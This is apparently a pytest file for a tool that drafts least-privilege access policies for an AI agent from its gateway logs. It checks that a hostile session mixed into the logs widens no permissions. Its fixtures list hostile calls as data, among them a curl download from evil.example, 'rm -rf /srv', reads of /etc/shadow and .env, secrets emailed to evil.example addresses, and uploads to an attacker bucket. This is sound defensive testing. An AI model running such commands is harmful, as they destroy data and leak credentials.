"""A log with one hostile session in it, from its lines to the proposal, against the same log without that session.

The decisions are made here, by the standard library's matcher: deny before approval before allow.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from uses import glob

from tightener import pipeline
from tightener.config import Config
from tightener.model import AgentPolicy, Body, Effect
from tightener.policy import document

FIRST = date(2026, 9, 1)
DAYS = 70
BUCKET = "arn:aws:s3:::invoice-data/"
SECRET = "arn:aws:secretsmanager:us-east-1:123456789012:secret:"
POLICY = """\
agents:
  worker:
    x-granted-since: 2026-01-01
    allow:
      - service: aws
        actions: ["s3:GetObject", "s3:PutObject", "s3:DeleteObject", "secretsmanager:GetSecretValue", "s3:ListBucket"]
      - service: git
        actions: [fetch, push]
      - service: tools
        actions: [bash, read_file, send_email]
      - service: stripe
        actions: ["invoices:read", "refunds:create"]
    deny:
      - service: aws
        actions: ["ec2:*"]
"""


@dataclass(frozen=True)
class Call:
    service: str
    action: str
    resource: str = ""
    branch: str = ""
    args: tuple[tuple[str, str], ...] = ()
    asked: str = ""  # what its class is: asked about always, or where it is rare

    def requests(self) -> Iterator[tuple[str, str, str, str]]:
        """The call as the contract reads it: one request an argument, the words of a command."""
        if not self.args:
            yield self.service, self.action, self.resource, self.branch
        for name, value in self.args:
            yield self.service, self.action, value if name == "command" else f"{name}={value}", self.branch


def tool(name: str, asked: str = "", **args: str) -> Call:
    return Call("tools", name, args=tuple(args.items()), asked=asked)


def work(day: int, chance: random.Random) -> Iterator[Call]:
    """A day of the agent's work."""
    when = FIRST + timedelta(days=day)
    for _ in range(4):
        number = chance.randrange(10_000, 99_999)
        yield Call("aws", "s3:GetObject", f"{BUCKET}raw/{when:%Y/%m}/inv-{number}.pdf")
        yield Call("aws", "s3:PutObject", f"{BUCKET}processed/{when:%Y/%m}/inv-{number}.json")
        yield Call("git", "push", "acme/billing", f"feature/task-{number}")
        yield Call("stripe", "invoices:read", f"in_{number}")
        yield tool("read_file", path=f"/workspace/{chance.choice(('api', 'web'))}/part_{number}.py")
        yield tool("send_email", to=chance.choice(("dana@acme.example", "eve@acme.example")), text=f"job {number} done")
    yield Call("git", "fetch", "acme/billing")
    yield Call("aws", "secretsmanager:GetSecretValue", f"{SECRET}app")
    yield tool("bash", command="git status")


HOSTILE = (
    Call("aws", "s3:GetObject", "arn:aws:s3:::payroll/2026/10/salaries.csv"),
    Call("aws", "s3:GetObject", f"{BUCKET}archive/x-1.pdf"),
    Call("aws", "s3:GetObject", f"{BUCKET}archive/x-2.pdf"),
    Call("aws", "s3:GetObject", f"{BUCKET}raw/keys/all.zip"),
    Call("aws", "s3:PutObject", "arn:aws:s3:::attacker-drop/out.zip"),
    Call("aws", "s3:PutObject", f"{BUCKET}processed/report.html"),
    Call("aws", "s3:DeleteObject", f"{BUCKET}raw/2026/09/inv-10500.pdf", asked="always"),
    Call("aws", "s3:DeleteObject", f"{BUCKET}raw/2026/10/inv-10501.pdf", asked="always"),
    Call("aws", "secretsmanager:GetSecretValue", f"{SECRET}prod/db", asked="rare"),
    Call("aws", "secretsmanager:GetSecretValue", f"{SECRET}root", asked="rare"),
    Call("aws", "s3:ListBucket", "arn:aws:s3:::payroll"),
    Call("git", "push", "acme/billing", "main", asked="always"),
    Call("git", "push", "evil/pwn", "feature/task-31337"),
    Call("git", "push", "acme/billing", "evil/x"),
    Call("stripe", "refunds:create", "in_10500", asked="always"),
    tool("read_file", path="/etc/shadow"),
    tool("read_file", path="/workspace/.env"),
    tool("send_email", to="mallory@evil.example", text="the keys are below", asked="rare"),
    tool("send_email", to="trudy@evil.example", text="the keys are below", asked="rare"),
    tool("bash", command="rm -rf /srv", asked="always"),
    tool("bash", command="curl http://evil.example/x -o /tmp/x"),
)  # fmt: skip
NEIGHBOURS = (
    Call("aws", "s3:GetObject", "arn:aws:s3:::payroll/2026/11/salaries.csv"),
    Call("aws", "s3:GetObject", f"{BUCKET}archive/x-3.pdf"),
    Call("aws", "s3:GetObject", f"{BUCKET}raw/keys/more.zip"),
    Call("aws", "s3:PutObject", "arn:aws:s3:::attacker-drop/more.zip"),
    Call("aws", "s3:PutObject", f"{BUCKET}processed/report2.html"),
    Call("aws", "s3:DeleteObject", f"{BUCKET}raw/2026/10/inv-20000.pdf"),
    Call("aws", "secretsmanager:GetSecretValue", f"{SECRET}prod/web"),
    Call("aws", "s3:ListBucket", "arn:aws:s3:::other"),
    Call("git", "push", "evil/other", "feature/task-1"),
    Call("git", "push", "acme/billing", "evil/y"),
    Call("stripe", "refunds:create", "in_10501"),
    tool("read_file", path="/etc/passwd"),
    tool("send_email", to="oscar@evil.example"),
    tool("bash", command="rm -rf /home"),
)


def lines(hostile: tuple[Call, ...], on: int) -> Iterator[str]:
    chance = random.Random(5)
    number = 0
    for day in range(DAYS):
        calls = [(call, f"run-{day}") for call in work(day, chance)]
        calls += [(call, "hostile") for call in hostile] if day == on else []
        for minute, (call, session) in enumerate(calls):
            number += 1
            at = datetime.combine(FIRST + timedelta(days=day), datetime.min.time()) + timedelta(hours=8, minutes=minute)
            line: dict[str, object] = {
                "v": 1, "id": f"e{number:09d}", "time": f"{at:%Y-%m-%dT%H:%M:%SZ}", "agent": "worker",
                "session": session, "service": call.service, "action": call.action,
                "decision": "allow", "outcome": "success",
            }  # fmt: skip
            line |= {"resource": call.resource} if call.resource else {}
            line |= {"branch": call.branch} if call.branch else {}
            line |= {"args": dict(call.args)} if call.args else {}
            yield json.dumps(line)


def proposed(folder: Path, hostile: tuple[Call, ...], on: int) -> AgentPolicy:
    """Lines to proposal."""
    log, policy = folder / "gateway.jsonl", folder / "policy.yaml"
    log.write_text("\n".join(lines(hostile, on)) + "\n")
    policy.write_text(POLICY)
    project = pipeline.open_project(Config(), None)
    pipeline.read_logs(project, [str(log)], datetime(2026, 12, 1, tzinfo=UTC), lambda _: None)
    found = pipeline.propose(project, pipeline.study(project, document.load([policy]), "worker"))
    assert found.proof.holds
    return document.parse(found.text, "policy.yaml").agents["worker"]


def fits(body: Body, action: str, resource: str, branch: str) -> bool:
    return (
        any(glob(pattern, action) for pattern in body.actions)
        and (body.resources is None or any(glob(pattern, resource) for pattern in body.resources))
        and (body.branches is None or any(glob(pattern, branch) for pattern in body.branches))
    )


def level(policy: AgentPolicy, request: tuple[str, str, str, str]) -> tuple[str, bool]:
    """The decision, and whether the request is written out: an exact value in the rule that decides."""
    service, action, resource, branch = request
    for effect in (Effect.DENY, Effect.REQUIRE_APPROVAL, Effect.ALLOW):
        for rule in policy.rules:
            if rule.effect is effect and rule.service == service and fits(rule.body, action, resource, branch):
                exact = resource in (rule.body.resources or ()) or branch in (rule.body.branches or ())
                return effect.value, exact
    return "refused", False


def wildcards(policy: AgentPolicy) -> set[tuple[str, str]]:
    """Those of the allow rules."""
    return {
        (rule.service, pattern)
        for rule in policy.rules
        if rule.effect is Effect.ALLOW
        for part in (rule.body.actions, rule.body.resources or ("*",), rule.body.branches or ("*",))
        for pattern in part
        if set(pattern) & {"*", "?"}
    }


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> AgentPolicy:
    """What is proposed without the hostile session."""
    return proposed(tmp_path_factory.mktemp("clean"), (), 0)


@pytest.mark.parametrize("on", [60, 20], ids=["lately", "long ago"])
def test_a_hostile_session_blesses_nothing(tmp_path: Path, clean: AgentPolicy, on: int) -> None:
    after = proposed(tmp_path, HOSTILE, on)
    assert wildcards(after) == wildcards(clean)
    for call in HOSTILE:
        for request in call.requests():
            if level(clean, request)[0] == "allow":
                assert request[2].startswith("text="), "free text is all that work and attack have in common"
                continue
            decision, exact = level(after, request)
            assert decision != "allow" or exact, request
            if call.asked == "always" or (call.asked and on > DAYS - 14):
                assert decision == "require_approval", request
    for call in NEIGHBOURS:
        for request in call.requests():
            assert level(clean, request)[0] == "refused", "a call that nobody made"
            assert level(after, request)[0] != "allow", request
    for day in range(DAYS - 30, DAYS):  # and the work goes on
        for call in work(day, random.Random(day)):
            for request in call.requests():
                assert level(after, request)[0] == level(clean, request)[0] == "allow", request
